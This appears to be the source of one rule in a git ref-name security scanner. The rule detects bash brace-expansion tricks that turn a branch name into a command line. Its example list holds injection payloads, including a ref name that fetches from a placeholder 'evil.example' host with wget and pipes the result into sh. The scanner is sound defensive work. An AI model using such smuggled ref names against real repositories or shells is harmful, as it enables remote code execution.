// CG-REF-003: brace-list word splitting ({curl,-sSfL,host} expands to "curl -sSfL host").
import type {RuleMeta} from '../../report/rule-meta.js'
import type {Hit, NameRule} from '../types.js'
import {BRACE_COMMAND, BRACE_LIST} from './patterns.js'

export const meta: RuleMeta = {
  id: 'CG-REF-003',
  title: 'Brace-list word splitting in a ref name',
  severity: 'high',
  description: 'Bash brace expansion turns {curl,-sSfL,host} into the words "curl -sSfL host" without a single space, which git would reject. Critical when the first word is a command.',
  remediation: 'delete the ref; never expand ref names in a shell',
  example: {bad: 'x{curl,-sSfL,evil.example/p}', good: 'feature/support-a-and-b'},
  examples: {
    flagged: ['x{curl,-sSfL,evil.example/p}', 'main;{wget,-qO-,evil.example/x}|sh'],
    clean: ['feature/support-a-and-b', 'fix/brace-matching'],
  },
}

export const rule: NameRule = {
  meta,
  check(name: string): Hit[] {
    const match = BRACE_LIST.exec(name)
    if (!match) return []
    const command = BRACE_COMMAND.test(match[0])
    return [{severity: command ? 'critical' : 'high', message: `brace list "${match[0].slice(0, 60)}" expands into ${command ? 'a command line' : 'several words'} in bash`}]
  },
}
